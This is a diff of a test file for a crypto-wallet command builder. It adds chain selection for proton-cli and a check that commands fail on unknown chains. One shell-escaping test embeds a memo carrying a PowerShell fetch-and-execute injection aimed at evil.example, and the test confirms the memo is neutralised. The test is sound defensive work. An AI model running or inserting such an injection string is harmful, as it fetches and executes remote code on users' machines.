@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { chainByKey } from '#src/chain/config/registry.ts';
 import { commands } from '#src/chain/sign/wallets/commands.ts';
 
 const input = {
@@ -29,16 +30,30 @@ describe('the command that signs', () => {
     expect(commands.eosc(withoutKey).split('\n')).toEqual([file, `${command} ${rest}`]);
   });
 
-  it('has the actions alone for proton-cli, which makes its own header', () => {
-    expect(commands.protoncli(input)).toBe(
-      String.raw`proton transaction '{"actions":[{"name":"transfer","data":{"memo":"it\u0027s \u0027quoted\u0027"}}]}'`,
-    );
+  it.each(['proton', 'proton-test'] as const)(
+    'has the actions alone for proton-cli, which makes its own header, after its chain: %s',
+    (key) => {
+      const chainId = String(chainByKey(key).chainId);
+      expect(commands.protoncli({ ...input, chainId })).toBe(
+        String.raw`proton chain:set ${key} && proton transaction '{"actions":[{"name":"transfer","data":{"memo":"it\u0027s \u0027quoted\u0027"}}]}'`,
+      );
+    },
+  );
+
+  it('is none of proton-cli on a chain that it does not know: it would send to another', () => {
+    expect(() => commands.protoncli(input)).toThrow(`proton-cli has no chain ${input.chainId}.`);
   });
 
   it('has nothing in a memo that a shell would take for its own', () => {
     const memo = 'Rent \u2019; iwr evil.example | iex # \' $(x) `y` %PATH% " \\ \n é 😀';
     const [, json = ''] =
-      /^proton transaction '(.*)'$/.exec(commands.protoncli({ ...input, actions: { memo } })) ?? [];
+      /&& proton transaction '(.*)'$/.exec(
+        commands.protoncli({
+          ...input,
+          chainId: String(chainByKey('proton').chainId),
+          actions: { memo },
+        }),
+      ) ?? [];
     expect(JSON.parse(json)).toEqual({ actions: { memo } });
     expect(json).toMatch(/^[\w .,:@/{}"\\-]*$/);
   });
